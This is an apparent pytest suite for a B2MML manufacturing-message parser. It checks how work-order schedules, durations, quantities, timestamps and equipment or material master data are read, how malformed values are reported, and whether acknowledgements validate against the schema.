"""B2MML documents read (b2mml) from the samples beside these tests and from
small documents written here, the V0700 answers validated against the
official schemas, and the hardened parser refusing what it must. Values
asserted were read off the sample files by eye."""
import os
import re
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree

from integration_service import b2mml
from mes_common import errors, xml

pytestmark = pytest.mark.fast
STANDARDS = Path(os.environ.get("STANDARDS_DIR") or Path(__file__).resolve().parents[2] / "../shared/standards")
SAMPLES = Path(__file__).resolve().parent / "samples"
V6, V7 = b2mml.NAMESPACES["V0600"], b2mml.NAMESPACES["V0700"]
UTC = timezone.utc
NOW = datetime(2025, 3, 3, 8, 0, tzinfo=UTC)


def _sample(name):
    return (SAMPLES / name).read_bytes()


def _message(raw):
    return b2mml.read(raw, STANDARDS)


def _refused(error_type, call, *args, **kwargs):
    with pytest.raises(error_type) as refused:
        call(*args, **kwargs)
    return refused.value


def _segments(request):
    return [(s.id, s.description, s.process_segment_id, s.work_center_code, s.duration, s.setup, s.parent_id)
            for s in request.segments]


def _at(tree, path):
    """The texts at `path` (steps in the V0700 namespace) of an answer."""
    return [e.text for e in tree.getroot().iterfind("/".join(f"{{{V7}}}{step}" for step in path.split("/")))]


# -- the V0700 sample ----------------------------------------------------------------------------------------------

def test_the_v0700_schedule_validates_and_says_who_sent_what():
    message = _message(_sample("process_operations_schedule_v0700.xml"))
    assert (message.version, message.verb, message.noun, message.noun_element, message.element_name) == (
        "V0700", "Process", "OperationsSchedule", "OperationsSchedule", "ProcessOperationsSchedule")
    assert (message.message_id, message.bod_id, message.sender, message.created, message.release_id) == (
        "BOD-2025-0303-0001", "BOD-2025-0303-0001", "SAP-ERP-PRD", datetime(2025, 3, 3, 7, 15, tzinfo=UTC), "1.0")
    assert (message.actions, message.acknowledge, len(message.nouns)) == (("Add",), "Always", 1)


def test_the_v0700_schedule_gives_two_work_orders_with_their_operations_flattened_in_order():
    schedule, = b2mml.read_schedules(_message(_sample("process_operations_schedule_v0700.xml")))
    assert schedule.id == "SCH-2025-W10"
    first, second = schedule.requests
    assert (first.id, first.description, first.part_number, first.product_segment_id, first.quantity, first.unit,
            first.priority) == ("WO-100234", "Bracket, main landing gear", "7731-100-A", "RT-7731-A", Decimal("25"),
                                "EA", Decimal("2"))
    # +01:00 in the document, UTC here
    assert (first.start, first.due) == (datetime(2025, 3, 3, 5, 0, tzinfo=UTC), datetime(2025, 3, 7, 15, 0, tzinfo=UTC))
    assert _segments(first) == [
        ("0010", "Saw blank", "SAW", "WC-SAW-01", timedelta(hours=2, minutes=30), timedelta(minutes=45), None),
        ("0020", "Mill 5-axis", "MILL5X", "WC-5AX-02", timedelta(days=1, hours=4), timedelta(minutes=90), None),
        ("0020-10", "Deburr", "DEBURR", "WC-BENCH-03", timedelta(hours=1, minutes=15), None, "0020")]
    # no StartTime anywhere: None; an EndTime without a zone: UTC
    assert (second.id, second.part_number, second.product_segment_id, second.quantity, second.unit, second.start,
            second.due, second.priority) == ("WO-100235", "7731-200-B", "RT-7731-B", Decimal("12.5"), "KG", None,
                                             datetime(2025, 3, 10, 12, 0, tzinfo=UTC), Decimal("5"))
    assert _segments(second) == [("0010", "Turn", "TURN", "WC-LATHE-04", timedelta(minutes=40), timedelta(minutes=30),
                                  None)]


def test_the_consumed_material_is_not_the_part_made():
    schedule, = b2mml.read_schedules(_message(_sample("process_operations_schedule_v0700.xml")))
    assert "AL7075-BAR-60" not in {r.part_number for r in schedule.requests}


# -- the V0600 samples: plain, in SOAP, in MTConnect ---------------------------------------------------------------

V0600_SAMPLES = ["production_schedule_v0600.xml", "production_schedule_v0600_soap.xml",
                 "production_schedule_v0600_mtconnect.xml"]


@pytest.mark.parametrize("name", V0600_SAMPLES)
def test_a_v0600_schedule_reads_the_same_wherever_it_is_wrapped(name):
    message = _message(_sample(name))
    schedule, = b2mml.read_schedules(message)
    assert (message.version, message.noun, message.noun_element) == ("V0600", "OperationsSchedule",
                                                                    "ProductionSchedule")
    assert schedule.id == "PS-2017-06-17"
    first, second = schedule.requests
    # blanks around identifiers and codes are gone; 0.4E1 is 4; the product segment is the request's rule
    assert (first.id, first.description, first.part_number, first.product_segment_id, first.quantity, first.unit,
            first.priority) == ("M17-10250", "254100 Core, Rev. D1 Core", "254100-D1", "H-100292-C", Decimal("4"),
                                "EA", Decimal("3"))
    assert str(first.quantity) == "4"
    assert (first.start, first.due) == (datetime(2017, 6, 16, 7, tzinfo=UTC), datetime(2017, 7, 3, 7, tzinfo=UTC))
    # the grouping segment (no equipment, nested operations) is no operation; 060-1 follows 060
    assert _segments(first) == [
        ("005", None, None, "WC82-MH", timedelta(hours=5, minutes=21, seconds=42), timedelta(0), None),
        ("060", "Shape gear teeth", "GEAR-SHAPE", "WC63-VGS", timedelta(days=1, minutes=30, seconds=42),
         timedelta(hours=1, minutes=30), None),
        ("060-1", "Measure gear teeth", None, "WC89-QC", timedelta(minutes=20), timedelta(minutes=10), "060"),
        ("070", None, None, "WC89-QC", timedelta(days=3, hours=8, minutes=45), timedelta(0), None)]
    # no ProductProductionRuleID: the grouping segment's ProductSegmentID; 0.168E3 without a unit
    assert (second.id, second.part_number, second.product_segment_id, second.quantity, second.unit, second.priority,
            second.due) == ("M17-10248", "254500-E1", "37805", Decimal("168"), None, None,
                            datetime(2017, 6, 24, 7, tzinfo=UTC))
    assert [(s.id, s.work_center_code, s.duration, s.setup) for s in second.segments] == [
        ("005", "WC82-MH", timedelta(hours=2, minutes=47, seconds=19), None),
        ("060", "WC63-VGS", timedelta(hours=14, minutes=11, seconds=19), timedelta(hours=1, minutes=30))]


def test_the_soap_message_is_a_process_with_its_header_and_the_plain_ones_are_documents():
    soap = _message(_sample("production_schedule_v0600_soap.xml"))
    assert (soap.verb, soap.element_name, soap.message_id, soap.sender, soap.release_id, soap.acknowledge,
            soap.created) == ("Process", "ProcessProductionSchedule", "M17-BOD-000042", "ERP-EPICOR", "9.6", "OnError",
                              datetime(2017, 6, 17, 19, 11, 42, tzinfo=UTC))
    plain = _message(_sample("production_schedule_v0600.xml"))
    assert (plain.verb, plain.element_name, plain.message_id, plain.sender, plain.created, plain.actions) == (
        None, "ProductionSchedule", "PS-2017-06-17", None, None, ())


def test_an_mtconnect_assets_answer_carries_a_document_per_asset():
    tree = xml.parse(_sample("production_schedule_v0600_mtconnect.xml"))
    documents = b2mml.find_documents(tree)
    assert [etree.QName(d).localname for d in documents] == ["ProductionSchedule", "ProductDefinition"]
    element, version = b2mml.find_document(tree)
    assert (element, version) == (documents[0], "V0600")
    definition = b2mml.read_message(documents[1])
    assert (definition.noun, definition.noun_element, definition.message_id) == (
        "OperationsDefinition", "ProductDefinition", "H-100292-C")


# -- transports ----------------------------------------------------------------------------------------------------

SCHEDULE_V7 = f'<OperationsSchedule xmlns="{V7}"><ID>S-1</ID></OperationsSchedule>'


@pytest.mark.parametrize("wrapped", [
    SCHEDULE_V7,
    # SOAP 1.1: the body's document, not one a header carries
    f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header><t:Trace xmlns:t="urn:t">'
    f'<ProductionSchedule xmlns="{V6}"><ID>IN-HEADER</ID></ProductionSchedule></t:Trace></s:Header>'
    f'<s:Body>{SCHEDULE_V7}</s:Body></s:Envelope>',
    f'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body>{SCHEDULE_V7}</e:Body></e:Envelope>',
    # an OAGIS BOD around it
    f'<oa:SyncBOD xmlns:oa="http://www.openapplications.org/oagis/9"><oa:ApplicationArea><oa:BODID>x</oa:BODID>'
    f'</oa:ApplicationArea><oa:DataArea>{SCHEDULE_V7}</oa:DataArea></oa:SyncBOD>',
    # anything else, comments and all
    f'<envelope><!-- from the ERP --><meta id="1"/><payload><data>{SCHEDULE_V7}</data></payload></envelope>',
])
def test_the_document_is_found_inside_any_wrapper(wrapped):
    element, version = b2mml.find_document(xml.parse(wrapped))
    assert (etree.QName(element).localname, version, b2mml.read_message(element).message_id) == (
        "OperationsSchedule", "V0700", "S-1")


@pytest.mark.parametrize("body, hint", [
    ("<ProductionSchedule><ID>S-1</ID></ProductionSchedule>", "no B2MML"),   # no namespace: not guessed
    ('<ProductionSchedule xmlns="http://www.mesa.org/xml/B2MML-V0500"><ID>S-1</ID></ProductionSchedule>',
     "B2MML-V0500, which is not supported"),
    ('<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><s:Fault><faultcode>s:Server'
     '</faultcode></s:Fault></s:Body></s:Envelope>', "no B2MML"),
    ('<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Header/></s:Envelope>', "no B2MML"),
])
def test_a_body_without_a_b2mml_document_is_refused_naming_the_body(body, hint):
    refused = _refused(errors.ValidationFailed, b2mml.find_document, xml.parse(body))
    assert refused.http_status == 400 and list(refused.details) == ["body"] and hint in refused.message


# -- messages ------------------------------------------------------------------------------------------------------

def _v7(verb, noun_xml, verb_xml=None, noun="OperationsSchedule", area=True):
    header = ("<ApplicationArea><Sender><LogicalID>ERP</LogicalID></Sender>"
              "<CreationDateTime>2025-03-03T07:00:00Z</CreationDateTime><BODID>B-1</BODID></ApplicationArea>"
              if area else "")
    return (f'<{verb}{noun} xmlns="{V7}" releaseID="1.0">{header}<DataArea>{verb_xml or f"<{verb}/>"}'
            f'{noun_xml}</DataArea></{verb}{noun}>')


@pytest.mark.parametrize("document, verb, noun, actions, acknowledge", [
    (_v7("Change", SCHEDULE_V7, '<Change responseCode="Always"><ActionCriteria>'
                                '<ActionExpression actionCode=" Change ">/OperationsSchedule</ActionExpression>'
                                '</ActionCriteria></Change>'), "Change", "OperationsSchedule", ("Change",), "Always"),
    (_v7("Cancel", SCHEDULE_V7), "Cancel", "OperationsSchedule", (), None),
    (_v7("Get", SCHEDULE_V7), "Get", "OperationsSchedule", (), None),
    (_v7("Sync", SCHEDULE_V7, '<Sync><ActionCriteria><ActionExpression actionCode="Delete"/></ActionCriteria>'
                              '</Sync>'), "Sync", "OperationsSchedule", ("Delete",), None),
    # ProcessSegment is a noun whose name starts with a verb: plain, and in a Process message
    (f'<ProcessSegment xmlns="{V7}"><ID>SAW</ID></ProcessSegment>', None, "ProcessSegment", (), None),
    (_v7("Process", "<ProcessSegment><ID>SAW</ID></ProcessSegment>", noun="ProcessSegment"), "Process",
     "ProcessSegment", (), None),
])
def test_the_verb_and_noun_of_a_message(document, verb, noun, actions, acknowledge):
    message = b2mml.read_message(xml.parse(document).getroot())
    assert (message.verb, message.noun, message.actions, message.acknowledge) == (verb, noun, actions, acknowledge)


def test_a_message_without_its_verb_or_noun_is_refused_naming_both():
    document = f'<ProcessOperationsSchedule xmlns="{V7}" releaseID="1"><DataArea/></ProcessOperationsSchedule>'
    refused = _refused(errors.ValidationFailed, b2mml.read_message, xml.parse(document).getroot())
    assert set(refused.details) == {"ProcessOperationsSchedule/DataArea/Process",
                                    "ProcessOperationsSchedule/DataArea/OperationsSchedule"}


def test_a_header_time_that_is_no_time_does_not_refuse_the_work():
    document = _v7("Process", SCHEDULE_V7).replace("2025-03-03T07:00:00Z", "yesterday")
    assert b2mml.read_message(xml.parse(document).getroot()).created is None


def test_a_cancel_names_the_orders_without_quantities():
    document = (f'<CancelProductionSchedule xmlns="{V6}" releaseID="9.6"><ApplicationArea><CreationDateTime>'
                f'2017-06-18T00:00:00Z</CreationDateTime></ApplicationArea><DataArea><Cancel/><ProductionSchedule>'
                f'<ID>PS-1</ID><ProductionRequest><ID> M17-10250 </ID></ProductionRequest></ProductionSchedule>'
                f'</DataArea></CancelProductionSchedule>')
    message = b2mml.read_message(xml.parse(document).getroot())
    schedule, = b2mml.read_schedules(message)
    assert [(r.id, r.quantity, r.segments) for r in schedule.requests] == [("M17-10250", None, ())]
    # the same request in a Process has nothing to make
    refused = _refused(errors.ValidationFailed, b2mml.read_schedule, message.nouns[0])
    assert refused.details == {"ProductionRequest[M17-10250]/SegmentRequirement/MaterialProducedRequirement": [
        "missing: nothing to make, so no quantity"]}


def test_a_bare_request_reads_as_a_schedule_of_one():
    document = (f'<OperationsRequest xmlns="{V7}"><ID>WO-1</ID><SegmentRequirement><ID>10</ID>'
                f'<MaterialRequirement><MaterialUse>Produced</MaterialUse><Quantity><QuantityString>2'
                f'</QuantityString></Quantity></MaterialRequirement></SegmentRequirement></OperationsRequest>')
    schedule = b2mml.read_schedule(xml.parse(document).getroot(), "V0700")
    assert (schedule.id, [(r.id, r.quantity, r.part_number) for r in schedule.requests]) == (
        None, [("WO-1", Decimal("2"), None)])
    assert [s.id for s in schedule.requests[0].segments] == ["10"]   # no equipment, no nesting: still an operation


def test_a_noun_of_another_version_or_kind_is_refused():
    element = xml.parse(_sample("production_schedule_v0600.xml")).getroot()
    assert "not in the B2MML namespace" in _refused(errors.ValidationFailed, b2mml.read_schedule, element,
                                                     "V0700").message
    lot = xml.parse(f'<MaterialLot xmlns="{V7}"><ID>L</ID></MaterialLot>').getroot()
    assert _refused(errors.ValidationFailed, b2mml.read_schedule, lot).details == {
        "body": ["MaterialLot: expected OperationsSchedule or OperationsRequest"]}


# -- every problem at once -----------------------------------------------------------------------------------------

BROKEN_V0600 = f"""<ProductionSchedule xmlns="{V6}"><ID>PS-BAD</ID>
  <ProductionRequest><ID>WO-1</ID><StartTime>2025-13-01T00:00:00</StartTime>
    <SegmentRequirement><ID>010</ID><Duration>5 hours</Duration>
      <ProductionParameter><Parameter><ID>Setup_Time</ID><Value><ValueString>3</ValueString>
        <UnitOfMeasure>furlong</UnitOfMeasure></Value></Parameter></ProductionParameter>
      <EquipmentRequirement><EquipmentID>WC-1</EquipmentID></EquipmentRequirement>
      <MaterialProducedRequirement><MaterialDefinitionID>P-1</MaterialDefinitionID>
        <Quantity><QuantityString>ten</QuantityString></Quantity></MaterialProducedRequirement>
    </SegmentRequirement></ProductionRequest>
  <ProductionRequest><ID>WO-2</ID>
    <SegmentRequirement><ID>010</ID><LatestEndTime>soon</LatestEndTime>
      <EquipmentRequirement><EquipmentID>WC-1</EquipmentID></EquipmentRequirement></SegmentRequirement>
  </ProductionRequest>
  <ProductionRequest>
    <SegmentRequirement><Duration>-PT1H</Duration><EquipmentRequirement/>
      <MaterialProducedRequirement><Quantity><QuantityString>1,5</QuantityString></Quantity>
      </MaterialProducedRequirement></SegmentRequirement>
  </ProductionRequest>
</ProductionSchedule>"""


def test_every_problem_of_a_schedule_is_reported_together_naming_request_and_element():
    refused = _refused(errors.ValidationFailed, b2mml.read_schedules,
                       b2mml.read_message(xml.parse(BROKEN_V0600).getroot()))
    assert refused.http_status == 400
    assert refused.details == {
        "ProductionRequest[WO-1]/MaterialProducedRequirement/Quantity": ["'ten': not a number"],
        "ProductionRequest[WO-1]/StartTime": [
            "'2025-13-01T00:00:00': not a valid date and time (month must be in 1..12)"],
        "ProductionRequest[WO-1]/SegmentRequirement[010]/Duration": [
            "'5 hours': not an ISO 8601 duration (PnDTnHnMnS)"],
        "ProductionRequest[WO-1]/SegmentRequirement[010]/SetupTime": ["'3': unit 'furlong' is no unit of time "
                                                                      "(s, min, h)"],
        "ProductionRequest[WO-2]/SegmentRequirement/MaterialProducedRequirement": [
            "missing: nothing to make, so no quantity"],
        "ProductionRequest[WO-2]/SegmentRequirement[010]/LatestEndTime": [
            "'soon': not a date and time (YYYY-MM-DDThh:mm:ss with an optional zone)"],
        "ProductionRequest[#3]/ID": ["missing: the work order number"],
        "ProductionRequest[#3]/MaterialProducedRequirement/Quantity": ["'1,5': not a number"],
        "ProductionRequest[#3]/SegmentRequirement[#1]/ID": ["missing: the operation's number"],
        "ProductionRequest[#3]/SegmentRequirement[#1]/Duration": ["must not be negative"]}
    assert refused.message.startswith("the ProductionSchedule PS-BAD has 10 problems; the first: ")


def test_a_missing_quantity_names_the_request_and_the_element():
    document = (f'<OperationsSchedule xmlns="{V7}"><OperationsRequest><ID>WO-7</ID><SegmentRequirement><ID>10</ID>'
                f'<MaterialRequirement><MaterialDefinitionID>P-7</MaterialDefinitionID><MaterialUse>Produced'
                f'</MaterialUse><Quantity><QuantityString xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                f'xsi:nil="true"/><UnitOfMeasure>EA</UnitOfMeasure></Quantity></MaterialRequirement>'
                f'</SegmentRequirement></OperationsRequest><OperationsRequest><ID>WO-8</ID></OperationsRequest>'
                f'</OperationsSchedule>')
    refused = _refused(errors.ValidationFailed, b2mml.read_schedule, xml.parse(document).getroot())
    assert refused.details == {
        "OperationsRequest[WO-7]/MaterialRequirement/Quantity": ["missing: how many to make"],
        "OperationsRequest[WO-8]/SegmentRequirement/MaterialRequirement[MaterialUse='Produced']": [
            "missing: nothing to make, so no quantity"]}


def test_a_schedule_read_but_contradicting_itself_is_a_rule_violation():
    def request(quantity, second_segment="10"):
        return (f'<OperationsRequest><ID>WO-9</ID><StartTime>2025-03-05T00:00:00Z</StartTime>'
                f'<EndTime>2025-03-04T23:00:00Z</EndTime>'
                f'<SegmentRequirement><ID>10</ID><EquipmentRequirement><EquipmentID>A</EquipmentID>'
                f'</EquipmentRequirement><MaterialRequirement><MaterialUse>Produced</MaterialUse><Quantity>'
                f'<QuantityString>{quantity}</QuantityString></Quantity></MaterialRequirement></SegmentRequirement>'
                f'<SegmentRequirement><ID>{second_segment}</ID><EquipmentRequirement><EquipmentID>B</EquipmentID>'
                f'</EquipmentRequirement></SegmentRequirement></OperationsRequest>')
    document = f'<OperationsSchedule xmlns="{V7}"><ID>S</ID>{request("0")}{request("-1E0", "20")}</OperationsSchedule>'
    refused = _refused(errors.RuleViolated, b2mml.read_schedule, xml.parse(document).getroot())
    early = "2025-03-04T23:00:00+00:00 is before the start 2025-03-05T00:00:00+00:00"
    assert refused.http_status == 422
    assert refused.details == {
        "OperationsRequest[WO-9]/MaterialRequirement/Quantity": ["0: must be greater than 0",
                                                                 "-1: must be greater than 0"],
        "OperationsRequest[WO-9]/EndTime": [early, early],
        "OperationsRequest[WO-9]/SegmentRequirement[10]": ["the same operation twice in one request"],
        "OperationsRequest[WO-9]": ["the same work order twice in one schedule"]}


def test_times_come_from_the_segments_when_the_request_has_none():
    document = (f'<ProductionRequest xmlns="{V6}"><ID>WO-3</ID><SegmentRequirement><ID>10</ID>'
                f'<EarliestStartTime>2025-03-04T08:00:00+02:00</EarliestStartTime>'
                f'<LatestEndTime>2025-03-04T12:00:00</LatestEndTime><EquipmentRequirement><EquipmentID>A'
                f'</EquipmentID></EquipmentRequirement><MaterialProducedRequirement><Quantity>7</Quantity>'
                f'</MaterialProducedRequirement><SegmentRequirement><ID>20</ID>'
                f'<EarliestStartTime>2025-03-04T05:00:00Z</EarliestStartTime>'
                f'<LatestEndTime>2025-03-05T00:00:00Z</LatestEndTime></SegmentRequirement></SegmentRequirement>'
                f'</ProductionRequest>')
    request, = b2mml.read_schedule(xml.parse(document).getroot()).requests
    # the earliest start and the latest end of all segments; a Quantity with only text is read
    assert (request.start, request.due, request.quantity) == (
        datetime(2025, 3, 4, 5, tzinfo=UTC), datetime(2025, 3, 5, tzinfo=UTC), Decimal("7"))
    assert [(s.id, s.parent_id) for s in request.segments] == [("10", None), ("20", "10")]


def test_a_v0700_setup_may_be_a_parameter_inside_the_segment_parameter_in_hours():
    document = (f'<OperationsRequest xmlns="{V7}"><ID>WO-4</ID><SegmentRequirement><ID>10</ID>'
                f'<SegmentParameter><ID>Times</ID><Parameter><ID>setup-time</ID><Value><ValueString>1.5'
                f'</ValueString><UnitOfMeasure>HUR</UnitOfMeasure></Value></Parameter></SegmentParameter>'
                f'<EquipmentRequirement><EquipmentID>WC-1</EquipmentID></EquipmentRequirement>'
                f'<SegmentRequirement><ID>20</ID><SegmentParameter><ID>SetupTime</ID><Value><ValueString>PT5M'
                f'</ValueString></Value></SegmentParameter></SegmentRequirement></SegmentRequirement>'
                f'</OperationsRequest>')
    request, = b2mml.read_schedule(xml.parse(document).getroot(), require_quantity=False).requests
    assert [(s.id, s.setup) for s in request.segments] == [("10", timedelta(minutes=90)),
                                                           ("20", timedelta(minutes=5))]


# -- values --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, value", [
    ("25", Decimal("25")), (" +25.50 ", Decimal("25.50")), ("0.4E1", Decimal("4")), ("0.323E3", Decimal("323")),
    ("1E3", Decimal("1000")), (".5", Decimal("0.5")), ("5.", Decimal("5")), ("-2e-1", Decimal("-0.2")),
])
def test_a_quantity_in_any_decimal_or_exponent_form(text, value):
    parsed = b2mml.parse_decimal(text)
    assert parsed == value and str(parsed) == str(value)


@pytest.mark.parametrize("text", ["", "ten", "NaN", "Infinity", "1,5", "1 000", "1_000", "0x10", "1E", "1E99999",
                                  "1E16", "E5"])
def test_a_quantity_that_is_no_number_is_refused(text):
    with pytest.raises(ValueError):
        b2mml.parse_decimal(text)


@pytest.mark.parametrize("text, value", [
    ("PT2H30M", timedelta(hours=2, minutes=30)), ("P1DT4H", timedelta(days=1, hours=4)),
    ("P5DT17H58M30S", timedelta(days=5, hours=17, minutes=58, seconds=30)), ("PT0S", timedelta(0)),
    ("PT1.5S", timedelta(seconds=1.5)), ("PT0,5H", timedelta(minutes=30)), ("P2W", timedelta(days=14)),
    ("P0Y0M3D", timedelta(days=3)), ("-PT5M", timedelta(minutes=-5)), (" pt45m ", timedelta(minutes=45)),
    ("PT90M", timedelta(minutes=90)), ("PT0.000001S", timedelta(microseconds=1)),
])
def test_an_iso_8601_duration(text, value):
    assert b2mml.parse_duration(text) == value


@pytest.mark.parametrize("text, why", [
    ("P1M", "no fixed length"), ("P1Y", "no fixed length"), ("P", "not an ISO"), ("PT", "not an ISO"),
    ("P1DT", "not an ISO"), ("2H", "not an ISO"), ("PT1H30", "not an ISO"), ("P1H", "not an ISO"),
    ("PT30M1H", "not an ISO"), ("P999999999999D", "out of range"),
])
def test_a_duration_that_is_none_or_has_no_fixed_length_is_refused(text, why):
    with pytest.raises(ValueError, match=why):
        b2mml.parse_duration(text)


@pytest.mark.parametrize("text, value", [
    ("2025-03-03T07:15:00Z", datetime(2025, 3, 3, 7, 15, tzinfo=UTC)),
    ("2025-03-03T07:15:00", datetime(2025, 3, 3, 7, 15, tzinfo=UTC)),   # no zone: UTC
    ("2025-03-03T07:15:00+01:00", datetime(2025, 3, 3, 6, 15, tzinfo=UTC)),
    ("2025-03-03T07:15:00-0530", datetime(2025, 3, 3, 12, 45, tzinfo=UTC)),
    ("2025-03-03T07:15:00.1234567Z", datetime(2025, 3, 3, 7, 15, 0, 123456, tzinfo=UTC)),
    ("2025-03-03T07:15", datetime(2025, 3, 3, 7, 15, tzinfo=UTC)),
    ("2025-03-03", datetime(2025, 3, 3, tzinfo=UTC)),
    ("2025-03-03T24:00:00Z", datetime(2025, 3, 4, tzinfo=UTC)),
    (" 2025-03-03 07:15:00Z ", datetime(2025, 3, 3, 7, 15, tzinfo=UTC)),
])
def test_a_time_with_or_without_a_zone_is_utc(text, value):
    parsed = b2mml.parse_datetime(text)
    assert parsed == value and parsed.tzinfo == UTC


@pytest.mark.parametrize("text", ["03/03/2025", "2025-02-30T00:00:00", "2025-03-03T25:00:00", "2025-03-03T24:00:01",
                                  "2025-03-03T07:15:00+25:00", "tomorrow", "1741000000"])
def test_a_time_that_is_none_is_refused(text):
    with pytest.raises(ValueError):
        b2mml.parse_datetime(text)


@pytest.mark.parametrize("text, unit, value", [
    ("45", None, timedelta(minutes=45)), ("90.5", "", timedelta(minutes=90, seconds=30)),
    ("30", "s", timedelta(seconds=30)), ("1.5", "h", timedelta(minutes=90)), ("2", "HUR", timedelta(hours=2)),
    ("10", " MIN ", timedelta(minutes=10)), ("PT1H30M", "min", timedelta(minutes=90)),
])
def test_a_setup_time_is_a_duration_or_a_number_of_minutes(text, unit, value):
    assert b2mml.parse_setup(text, unit) == value


# -- master data ---------------------------------------------------------------------------------------------------

def test_material_definitions_with_their_base_unit():
    message = _message(_sample("sync_material_definition_v0700.xml"))
    assert (message.verb, message.noun, message.actions) == ("Sync", "MaterialDefinition", ("Replace",))
    assert b2mml.read_material_definitions(message.nouns) == [
        b2mml.MaterialDefinition("7731-100-A", "Bracket, main landing gear", "EA"),
        b2mml.MaterialDefinition("AL7075-BAR-60", "Bar, aluminium 7075-T6, 60 mm", None)]


def test_material_lots_with_quantity_and_storage_location():
    message = _message(_sample("process_material_lot_v0700.xml"))
    assert (message.verb, message.noun, message.created) == ("Process", "MaterialLot",
                                                             datetime(2025, 3, 2, 8, 30, tzinfo=UTC))
    assert b2mml.read_material_lots(message.nouns) == [
        b2mml.MaterialLot("L-2025-0042", "AL7075-BAR-60", Decimal("125"), "KG", "RACK-A-03", "Released"),
        b2mml.MaterialLot("L-2025-0043", "7731-100-A", None, None, "QA-HOLD", "Quarantine")]


def test_equipment_flattened_with_levels_and_parents():
    message = _message(_sample("sync_equipment_v0700.xml"))
    assert [(e.id, e.description, e.level, e.parent_id) for e in b2mml.read_equipment(message.nouns)] == [
        ("PLANT-1000", "Plant 1000, Toulouse", "Site", None),
        ("AREA-MACH", "Machining", "Area", "PLANT-1000"),
        ("WC-5AX-02", "5-axis machining center", "WorkCenter", "AREA-MACH"),
        ("WU-5AX-02-PALLET", "Pallet changer", "WorkUnit", "WC-5AX-02"),
        ("WC-CMM-01", "Coordinate measuring machine", "WorkCenter", "AREA-QA")]   # its innermost HierarchyScope


def test_v0600_master_data_in_an_information_noun():
    document = f"""<SyncMaterialInformation xmlns="{V6}" releaseID="9.6"><ApplicationArea>
      <CreationDateTime>2017-06-17T00:00:00Z</CreationDateTime></ApplicationArea><DataArea><Sync/>
      <MaterialInformation>
        <MaterialDefinition><ID> P-1 </ID><MaterialDefinitionProperty><ID>UoM</ID><Value><ValueString/>
          <UnitOfMeasure>KG</UnitOfMeasure></Value></MaterialDefinitionProperty></MaterialDefinition>
        <MaterialLot><ID>L-1</ID><MaterialDefinitionID>P-1</MaterialDefinitionID><Quantity>
          <QuantityString>0.25E2</QuantityString><UnitOfMeasure>KG</UnitOfMeasure></Quantity></MaterialLot>
      </MaterialInformation></DataArea></SyncMaterialInformation>"""
    message = b2mml.read_message(xml.parse(document).getroot())
    assert (message.noun, message.verb) == ("MaterialInformation", "Sync")
    assert b2mml.read_material_definitions(message.nouns) == [b2mml.MaterialDefinition("P-1", None, "KG")]
    assert b2mml.read_material_lots(message.nouns) == [
        b2mml.MaterialLot("L-1", "P-1", Decimal("25"), "KG", None, None)]


def test_v0600_equipment_placed_by_location_and_a_level_named_otherwise():
    document = f"""<Equipment xmlns="{V6}"><ID> WC-1 </ID>
      <Location><EquipmentID>SITE-1</EquipmentID><EquipmentElementLevel>Site</EquipmentElementLevel>
        <Location><EquipmentID>AREA-1</EquipmentID><EquipmentElementLevel>Area</EquipmentElementLevel></Location>
      </Location>
      <EquipmentLevel><EquipmentID>WC-1</EquipmentID><EquipmentElementLevel OtherValue="Cell">Other
        </EquipmentElementLevel></EquipmentLevel>
      <Equipment><ID>WU-1</ID><EquipmentLevel>WorkUnit</EquipmentLevel></Equipment></Equipment>"""
    assert b2mml.read_equipment(xml.parse(document).getroot()) == [
        b2mml.Equipment("WC-1", None, "Cell", "AREA-1"), b2mml.Equipment("WU-1", None, "WorkUnit", "WC-1")]


def test_a_v0700_level_spelled_the_2018_way():
    document = (f'<EquipmentInformation xmlns="{V7}"><Equipment><ID>LINE-1</ID><EquipmentLevel><EquipmentID>LINE-1'
                f'</EquipmentID><EquipmentLevel>ProductionLine</EquipmentLevel></EquipmentLevel></Equipment>'
                f'</EquipmentInformation>')
    assert b2mml.read_equipment(xml.parse(document).getroot(), "V0700") == [
        b2mml.Equipment("LINE-1", None, "ProductionLine", None)]


def test_master_data_problems_and_duplicates():
    lots = xml.parse(f'<MaterialInformation xmlns="{V7}"><MaterialLot><Quantity><QuantityString>lots'
                     f'</QuantityString></Quantity></MaterialLot><MaterialLot><ID>L-2</ID><Quantity><QuantityString>'
                     f'NaN</QuantityString></Quantity></MaterialLot></MaterialInformation>').getroot()
    assert _refused(errors.ValidationFailed, b2mml.read_material_lots, lots).details == {
        "MaterialLot[#1]/ID": ["missing: the lot number"], "MaterialLot[#1]/Quantity": ["'lots': not a number"],
        "MaterialLot[L-2]/Quantity": ["'NaN': not a number"]}
    twice = xml.parse(f'<Equipment xmlns="{V7}"><ID>A</ID><Equipment><ID>A </ID></Equipment></Equipment>').getroot()
    refused = _refused(errors.RuleViolated, b2mml.read_equipment, twice)
    assert refused.details == {"Equipment[A]": ["given twice in one message"]}
    wrong = xml.parse(f'<MaterialLot xmlns="{V7}"><ID>L</ID></MaterialLot>').getroot()
    assert _refused(errors.ValidationFailed, b2mml.read_equipment, wrong).details == {
        "body": ["MaterialLot: expected Equipment or EquipmentInformation"]}


# -- answers -------------------------------------------------------------------------------------------------------

UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")


def test_an_acknowledge_validates_and_echoes_the_schedule_and_the_request():
    message = _message(_sample("process_operations_schedule_v0700.xml"))
    answer = b2mml.acknowledge(message, now=NOW)
    b2mml.validate_v0700(answer, STANDARDS)
    assert answer.getroot().tag == f"{{{V7}}}AcknowledgeOperationsSchedule"
    assert answer.getroot().get("releaseID") == "1.0"
    assert (_at(answer, "ApplicationArea/Sender/LogicalID"), _at(answer, "ApplicationArea/Receiver/LogicalID"),
            _at(answer, "ApplicationArea/CreationDateTime")) == (["MES"], ["SAP-ERP-PRD"], ["2025-03-03T08:00:00Z"])
    assert UUID.fullmatch(_at(answer, "ApplicationArea/BODID")[0])
    original = "DataArea/Acknowledge/OriginalApplicationArea"
